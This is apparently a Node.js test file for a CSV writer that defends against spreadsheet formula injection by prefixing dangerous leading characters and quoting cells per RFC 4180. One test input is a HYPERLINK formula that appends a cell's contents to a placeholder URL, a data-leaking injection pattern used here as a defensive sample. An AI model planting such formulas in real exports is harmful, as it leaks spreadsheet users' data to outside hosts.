// The one CSV writer (platform/csv): formula starts neutralised by an apostrophe, numbers by their
// type left alone, lists guarded item by item, quoting per RFC 4180.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { CSV_BOM, csvCell, csvFile, csvLine, formattedNumber, neutralise } from '../../src/platform/csv/csv-writer.js';

describe('csv writer', () => {
  test('every dangerous first character gets an apostrophe, full-width forms too', () => {
    for (const start of ['=', '+', '-', '@', '|', '\t', '\r', '\n', '＝', '＋', '－', '＠', '｜']) {
      assert.equal(neutralise(`${start}1+1`), `'${start}1+1`, JSON.stringify(start));
    }
    assert.equal(neutralise('a=1'), 'a=1');
    assert.equal(neutralise(''), '');
    assert.equal(csvCell('=HYPERLINK("http://x"&A2,"open")'), `"'=HYPERLINK(""http://x""&A2,""open"")"`);
    assert.equal(csvCell('\r=1'), `"'\r=1"`); // guarded, and quoted for the line break
  });

  test('numbers by type: a number or a formatted number as is, a string that looks like one is text', () => {
    assert.equal(csvCell(-12.5), '-12,5');
    assert.equal(csvCell(3), '3');
    assert.equal(csvCell(Number.NaN), '');
    assert.equal(csvCell(formattedNumber('-12,50')), '-12,50');
    assert.equal(csvCell('-12,50'), "'-12,50");
    assert.equal(csvCell(formattedNumber('=1+1')), "'=1+1"); // not a number after all: guarded text
  });

  test('lists: every item guarded, joined with " | ", the cell starting safe', () => {
    assert.equal(csvCell(['@SUM(1+1)', 'ok', '=2']), "'@SUM(1+1) | ok | '=2");
    assert.equal(csvCell(['ok', '-1']), "ok | '-1");
    assert.equal(csvCell([]), '');
  });

  test('RFC 4180 quoting and lines', () => {
    assert.equal(csvCell('a;b'), '"a;b"');
    assert.equal(csvCell('say "hi"'), '"say ""hi"""');
    assert.equal(csvCell('two\nlines'), '"two\nlines"');
    assert.equal(csvCell(null), '');
    assert.equal(csvCell(true), 'true');
    assert.equal(csvLine(['x', true, 2, undefined]), 'x;true;2;\r\n');
    assert.equal(csvFile(['a', 'b'], [['=1', 1]]), `${CSV_BOM}a;b\r\n'=1;1\r\n`);
  });
});
